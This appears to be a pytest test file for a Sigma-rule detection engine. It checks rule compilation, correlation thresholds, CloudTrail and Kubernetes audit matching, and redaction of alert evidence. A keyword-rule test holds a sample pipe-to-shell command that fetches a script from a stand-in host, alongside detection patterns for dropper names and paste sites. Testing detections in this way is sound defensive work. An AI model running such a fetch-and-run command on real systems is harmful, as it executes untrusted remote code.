"""Sigma detections: the real SigmaHQ/pySigma corpus compiles or is explained, and rules match events."""

from __future__ import annotations

import gzip
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from intelsec.detect import compile_paths, run_rules
from intelsec.detect.events import read_events
from tests.clirunner import invoke

EXEC_RULE = "a1b0ca4e-7835-413e-8471-3ff2b8a66be6"
STOP_LOGGING_RULE = "4db60cc0-36fb-42b7-9b58-a5b53019fb74"
BACKDOOR_KEYS_RULE = "0a5177f4-6ca9-44c2-aacf-d3f3d8b6e4d2"


def test_every_corpus_rule_compiles_or_is_reported(corpus_dir: Path) -> None:
    sigma = corpus_dir / "sigma"
    rules, problems = compile_paths([sigma])
    files = {str(p) for p in sigma.rglob("*.yml")}
    covered = {r.path for r in rules} | {p.path for p in problems}
    # files whose rules are only building blocks of correlations are covered by those correlations
    assert files - covered == set()
    assert len(rules) >= 35
    reasons = {Path(p.path).name: p.reason for p in problems}
    assert "legacy aggregation" in reasons["aws_enum_listing.yml"]
    assert "not found in the given files: recon_cmd_a" in reasons["spec-schema-test.temporal.yml"]
    assert "filter" in reasons["spec-schema-test.filter_1.yml"]
    assert "not a Sigma rule" in reasons["okta.panther-tests.okta_user_mfa_reset_all.yml"]
    kinds = {r.title: r.is_correlation for r in rules}
    assert kinds["Correlation - Multiple Failed Logins Followed by Successful Login"] is True


def test_real_detonation_logs_match_their_rules(corpus_dir: Path) -> None:
    rules, _ = compile_paths([corpus_dir / "sigma"])
    events: list[dict] = []
    for f in sorted((corpus_dir / "sigma" / "logs").glob("*.json")):
        events.extend(read_events(f)[0])
    matches, problems = run_rules(rules, events)
    assert problems == []
    hit = {m.rule.id: [events[i].get("eventName") or events[i].get("verb") for i in m.events] for m in matches}
    assert hit[STOP_LOGGING_RULE] == ["StopLogging"]
    assert hit[BACKDOOR_KEYS_RULE] == ["CreateAccessKey"]
    assert hit[EXEC_RULE] == ["create"]


def _login_events(n: int, user: str, start: datetime, step: timedelta) -> list[dict]:
    return [{"EventID": 4625, "User": user, "timestamp": (start + i * step).isoformat()} for i in range(n)]


@pytest.mark.parametrize(("failures", "step_seconds", "expected"), [(10, 30, True), (9, 30, False), (10, 120, False)])
def test_chained_correlation_threshold_and_timespan(corpus_dir: Path, failures: int, step_seconds: int,
                                                    expected: bool) -> None:
    rules, _ = compile_paths([corpus_dir / "sigma" / "correlation" / "spec-example.failed-logins-then-success.yml"])
    start = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
    events = _login_events(failures, "alice", start, timedelta(seconds=step_seconds))
    events.append({"EventID": "4624", "User": "ALICE", "timestamp": (start + timedelta(seconds=step_seconds * failures))
                   .isoformat()})
    events += _login_events(12, "bob", start, timedelta(seconds=30))  # bob never logs in successfully
    matches, problems = run_rules(rules, events)
    assert problems == []
    assert bool(matches) is expected
    if expected:
        assert matches[0].group == {"User": "alice"}
        assert len(matches[0].events) == failures + 1


def test_event_count_groups_and_case_insensitive_values(corpus_dir: Path) -> None:
    rules, _ = compile_paths([corpus_dir / "sigma" / "correlation" / "pysigma-test.correlation_rule.yml"])
    event_count = [r for r in rules if r.title == "Multiple occurrences of base event"]
    base = {"fieldA": "VALUE1", "fieldB": "value2", "fieldD": "d"}
    events = [{**base, "fieldC": "c1", "timestamp": f"2026-01-01T00:{i:02d}:00Z"} for i in range(10)]
    events += [{**base, "fieldC": "c2", "timestamp": f"2026-01-01T00:{i:02d}:00Z"} for i in range(9)]
    matches, _ = run_rules(event_count, events)
    assert [m.group for m in matches] == [{"fieldC": "c1", "fieldD": "d"}]


def test_nested_fields_missing_fields_and_bad_lines(tmp_path: Path) -> None:
    rule = tmp_path / "r.yml"
    rule.write_text("""title: Exec
id: 11111111-1111-4111-8111-111111111111
logsource: {product: kubernetes, service: audit}
detection:
  sel:
    verb: create
    objectRef.subresource: exec
  filter:
    user.username|startswith: 'system:'
  condition: sel and not filter
level: high
""")
    log = tmp_path / "audit.jsonl"
    log.write_text("\n".join([
        json.dumps({"verb": "create", "objectRef": {"subresource": "exec"}, "user": {"username": "mallory"}}),
        "{not json",
        json.dumps({"verb": "create", "objectRef": {"subresource": "exec"}, "user": {"username": "system:node"}}),
        json.dumps(["not", "an", "object"]),
        json.dumps({"verb": "get"}),
        json.dumps({"verb": "CREATE", "objectRef": {"subresource": "EXEC"}}),
    ]) + "\n")
    events, bad = read_events(log)
    assert [(b.line, b.reason.split(":")[0]) for b in bad] == [(2, "invalid JSON"), (4, "not a JSON object")]
    rules, problems = compile_paths([rule])
    assert problems == []
    matches, _ = run_rules(rules, events)
    assert matches[0].events == [0, 3]
    # values SQLite cannot bind as INTEGER are matched as text, not a crash
    huge = [{"verb": 10**30, "objectRef": {"subresource": "exec"}}, {"verb": "create", "objectRef.subresource": "exec"}]
    matches, _ = run_rules(rules, huge)
    assert matches[0].events == [1]


def test_regex_modifier_and_runtime_problem_is_reported(tmp_path: Path) -> None:
    (tmp_path / "re.yml").write_text("""title: Regex
logsource: {category: proxy}
detection:
  sel:
    c-uri|re: '^https://paste\\.[a-z]+/raw/'
  condition: sel
""")
    rules, problems = compile_paths([tmp_path])
    assert problems == []
    matches, _ = run_rules(rules, [{"c-uri": "https://paste.ee/raw/x"}, {"c-uri": "https://example.com/raw/"}, {}])
    assert matches[0].events == [0]


def test_cli_detect_run_and_check(capsys: pytest.CaptureFixture[str], corpus_dir: Path, tmp_path: Path) -> None:
    logs = corpus_dir / "sigma" / "logs"
    res = invoke(capsys, "detect", "run", str(corpus_dir / "sigma" / "k8s"),
                 "-e", str(logs / "k8s-audit.exec_pod.json"), "--format", "json")
    assert res.code == 0, res.err
    doc = json.loads(res.out)
    assert [m["rule"] for m in doc["matches"]] == [EXEC_RULE]
    res = invoke(capsys, "detect", "run", str(corpus_dir / "sigma" / "k8s"),
                 "-e", str(logs / "k8s-audit.exec_pod.json"), "--fail-on-match")
    assert res.code == 1
    res = invoke(capsys, "detect", "run", str(corpus_dir / "sigma" / "k8s"), "-e", str(tmp_path / "nope"))
    assert res.code == 2 and "no such event file" in res.err
    truncated = tmp_path / "cut.jsonl.gz"
    truncated.write_bytes(gzip.compress(b'{"a": 1}\n' * 100)[:20])
    res = invoke(capsys, "detect", "run", str(corpus_dir / "sigma" / "k8s"), "-e", str(truncated))
    assert res.code == 2 and f"{truncated}: cannot read" in res.err
    res = invoke(capsys, "detect", "check", str(corpus_dir / "sigma" / "legacy-aggregation"))
    assert res.code == 1 and "legacy aggregation" in res.err
    res = invoke(capsys, "detect", "check", str(corpus_dir / "sigma" / "k8s"))
    assert res.code == 0


def test_matches_become_alerts_with_minimal_evidence(migrated_db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from intelsec.alerts import AlertService
    from intelsec.clock import FrozenClock
    from intelsec.detect.service import detect
    from intelsec.detect.store import load_events
    from intelsec.store.models import Event

    (tmp_path / "r.yml").write_text("""title: Trail stopped
id: 22222222-2222-4222-8222-222222222222
name: trail_stopped
logsource: {product: aws, service: cloudtrail}
detection:
  sel: {eventSource: cloudtrail.amazonaws.com, eventName: StopLogging}
  condition: sel
level: high
""")
    clock = FrozenClock(datetime(2026, 5, 1, tzinfo=UTC))
    with migrated_db.session() as s:
        for i, name in enumerate(["StopLogging", "StartLogging"]):
            s.add(Event(time=clock.now() + timedelta(seconds=i), source="cloudtrail", kind="aws.api",
                        entity="arn:aws:iam::123456789012:user/ops",
                        data={"eventSource": "cloudtrail.amazonaws.com", "eventName": name,
                              "userIdentity": {"arn": "arn:aws:iam::123456789012:user/ops"},
                              "requestParameters": {"password": "hunter2"}}))
    rules, problems = compile_paths([tmp_path])
    service = AlertService(migrated_db, clock=clock)
    report = detect(rules, load_events(migrated_db, since=clock.now() - timedelta(minutes=1)), service, problems)
    assert report.events == 2 and len(report.alert_ids) == 1
    alert = service.get(report.alert_ids[0])
    assert (alert.rule, alert.source, alert.severity, alert.entity) == (
        "trail_stopped", "detect", "high", "arn:aws:iam::123456789012:user/ops")
    assert "hunter2" not in json.dumps(alert.evidence)
    assert alert.evidence["events"][0]["fields"] == {"eventName": "StopLogging",
                                                     "eventSource": "cloudtrail.amazonaws.com"}
    assert alert.test is False


def test_keyword_rules_search_every_value(tmp_path: Path) -> None:
    (tmp_path / "kw.yml").write_text("""title: Dropper keyword
logsource: {product: linux}
detection:
  keywords:
    - 'evil.sh'
  condition: keywords
""")
    rules, problems = compile_paths([tmp_path])
    assert problems == [] and rules[0].keywords
    events = [{"proc": {"cmd": "curl http://x/EVIL.sh | sh"}}, {"proc": {"cmd": "ls"}}, {"note": ["a", "evil.sh"]}]
    matches, _ = run_rules(rules, events)
    assert matches[0].events == [0, 2]


def test_cli_detect_over_the_store_raises_alerts(workspace_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    w = ["-w", str(workspace_dir)]
    assert invoke(capsys, "validation", "run", "cloudtrail_tamper", *w).code == 0
    res = invoke(capsys, "detect", "run", "--store", "--since", "1h", "--alerts", *w, "--format", "json")
    assert res.code == 0, res.err
    doc = json.loads(res.out)
    assert [m["rule"] for m in doc["matches"]] == ["aws_cloudtrail_logging_stopped"] and len(doc["alerts"]) == 1
    res = invoke(capsys, "detect", "run", *w)
    assert res.code == 2 and "--events" in res.err
    res = invoke(capsys, "detect", "run", "--store", "--since", "soon", *w)
    assert res.code == 2 and "--since" in res.err


def test_cloudtrail_event_time_drives_correlations(workspace_dir: Path, tmp_path: Path) -> None:
    """Raw CloudTrail lines carry `eventTime`, not `timestamp`: the value_count window must use it."""
    def call(ip: str, minute: int) -> dict:
        return {"eventTime": f"2026-02-01T10:{minute:02d}:00Z", "eventName": "GetCallerIdentity",
                "sourceIPAddress": ip, "userIdentity": {"type": "IAMUser", "accessKeyId": "AKIAEXAMPLEKEY000001"}}

    rules, _ = compile_paths([workspace_dir / "detections"])
    new_ip = [r for r in rules if r.key == "aws_access_key_new_source_ip"]
    assert run_rules(new_ip, [call("198.51.100.1", 0), call("203.0.113.9", 5)])[0]
    assert not run_rules(new_ip, [call("198.51.100.1", 0), call("198.51.100.1", 5)])[0]
